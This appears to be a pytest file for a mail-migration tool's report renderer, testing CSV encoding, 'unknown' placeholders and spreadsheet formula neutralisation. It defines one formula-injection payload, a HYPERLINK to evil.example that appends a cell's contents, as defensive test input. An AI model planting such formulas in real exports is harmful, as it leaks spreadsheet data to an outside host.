"""`--csv FILE`: the mailboxes as a spreadsheet, read back as Excel would see it.

RFC 4180 read with Python's csv module, UTF-8 with a byte-order mark, one row
per mailbox and side; what could not be read is "unknown", not 0; a cell that
a spreadsheet would evaluate as a formula starts with an apostrophe."""
import csv
import io
import json
import subprocess

from conftest import cutover_bin
from test_report_html import check, synthetic_audit

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def run(*args):
    return subprocess.run([cutover_bin(), *map(str, args)], capture_output=True, text=True,
                          timeout=120, stdin=subprocess.DEVNULL)


def read_sheet(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:20]  # Excel reads it as UTF-8
    assert b"\r\n" in raw and b"\n" not in raw.replace(b"\r\n", b"")  # CRLF only
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_render_csv_reads_back(tmp_path):
    users = ["ann@example.com", 'o"brien, pat@example.com', "carl@example.com"]
    report = synthetic_audit(users)
    # carl's source could not be read: his folder checks are errors standing in
    for c in report["checks"]:
        if c["subject"] == "carl@example.com" and c["id"] == "mailbox.folders":
            c.update(status="error", summary="could not read the source mailbox",
                     details={"user": "carl@example.com", "folders": [],
                              "total_messages": 0, "total_bytes": None,
                              "error": "connect_failed"})
        if c["subject"] == "ann@example.com" and c["id"] == "mailbox.folders":
            c["details"]["folders"][0]["name"] = FORMULA
            c["details"]["folders"][0]["messages"] = 99999
    report["checks"].append(check("mailbox.folder_names", "ann@example.com", "source",
                                  "warn", "2 names",
                                  {"problems": [{"name": "a/b", "reason": "slash"},
                                                {"name": "x", "reason": "y"}]}))
    counts = {s: 0 for s in ("pass", "warn", "fail", "error", "skip")}
    for c in report["checks"]:
        counts[c["status"]] += 1
    report["summary"] = {"status": "error", "counts": counts}
    src = tmp_path / "audit.json"
    src.write_text(json.dumps(report, ensure_ascii=False))
    out = tmp_path / "mailboxes.csv"
    proc = run("report", "render", src, "--csv", out, "-q")
    assert proc.returncode == 2, proc.stderr
    rows = read_sheet(out)
    assert [(r["user"], r["side"]) for r in rows] == [
        (u, s) for u in users for s in ("source", "destination")]
    ann = rows[0]
    assert ann["login"] == "imap ok"
    assert ann["folders"] == "3" and ann["name_problems"] == "2"
    assert ann["largest_folder"] == "'" + FORMULA  # shown as text, never evaluated
    assert ann["largest_folder_items"] == "99999"
    assert ann["items"] == "5203"  # total_messages as the report says
    assert ann["quota_percent"] != "unknown" and ann["status"] == "warn"
    assert rows[1]["login"] == "imap ok" and rows[1]["folders"] == "unknown"
    carl = rows[4]
    assert carl["folders"] == carl["items"] == carl["bytes"] == "unknown"
    assert carl["largest_folder"] == "unknown"
    assert carl["status"] == "error"
    assert rows[2]["user"] == users[1]  # the comma and quote survived quoting
    # every cell that starts like a formula is neutralized
    for r in rows:
        for v in r.values():
            assert not v or v[0] not in "=+-@", r


def test_csv_to_stdout_with_summary_on_stderr(tmp_path):
    src = tmp_path / "audit.json"
    src.write_text(json.dumps(synthetic_audit(["ann@example.com"])))
    proc = run("report", "render", src, "--csv", "-")
    rows = list(csv.DictReader(io.StringIO(proc.stdout.lstrip("\ufeff"), newline="")))
    assert len(rows) == 2 and rows[0]["user"] == "ann@example.com"
    assert "checks:" in proc.stderr  # the summary moved out of the way


def test_html_mailbox_table_says_unknown_not_zero(tmp_path):
    report = synthetic_audit(["ann@example.com", "carl@example.com"])
    for c in report["checks"]:
        if c["subject"] == "carl@example.com" and c["id"] == "mailbox.folders":
            c.update(status="skip", summary="not checked: the source login failed",
                     details={"user": "carl@example.com", "folders": [],
                              "total_messages": 0, "total_bytes": None,
                              "error": "connect_failed"})
    counts = {s: 0 for s in ("pass", "warn", "fail", "error", "skip")}
    for c in report["checks"]:
        counts[c["status"]] += 1
    report["summary"]["counts"] = counts
    src = tmp_path / "audit.json"
    src.write_text(json.dumps(report))
    out = tmp_path / "audit.html"
    run("report", "render", src, "--html", out, "-q")
    rows = [r for r in out.read_text().split("<tr data-status=")[1:]]
    carl = next(r.split("</tr>")[0] for r in rows if r.split("</td>")[0].endswith("carl@example.com"))
    ann = next(r.split("</tr>")[0] for r in rows if r.split("</td>")[0].endswith("ann@example.com"))
    assert carl.count(">unknown<") >= 3  # folders, items, size
    assert ">unknown<" not in ann


def test_sync_report_counts(tmp_path):
    checks = [
        check("sync.mailbox", "ann@example.com", None, "pass", "copied 120 messages",
              {"user": "ann@example.com", "folders": [], "copied": 120, "bytes": 1000,
               "duration_ms": 5, "errors": 0}),
        check("sync.mailbox", "bob@example.com", None, "error",
              "could not sync: login failed", {"user": "bob@example.com", "folders": [],
                                               "copied": 0, "bytes": 0, "duration_ms": 1}),
    ]
    report = {"schema_version": 1, "tool": {"name": "cutover", "version": "0.1.0"},
              "command": "sync", "target": "plan.json", "started_at": "2026-11-22T10:00:00Z",
              "duration_ms": 10, "summary": {"status": "error", "counts": {
                  "pass": 1, "warn": 0, "fail": 0, "error": 1, "skip": 0}},
              "checks": checks}
    src = tmp_path / "sync.json"
    src.write_text(json.dumps(report))
    out = tmp_path / "sync.csv"
    assert run("report", "render", src, "--csv", out, "-q").returncode == 2
    ann, bob = read_sheet(out)
    assert (ann["sync_copied"], ann["sync_moved"], ann["sync_deleted"], ann["sync_errors"]) \
        == ("120", "0", "0", "0")
    assert ann["folders"] == "unknown"  # a sync report has no folder inventory
    assert bob["sync_errors"] == "unknown" and bob["status"] == "error"
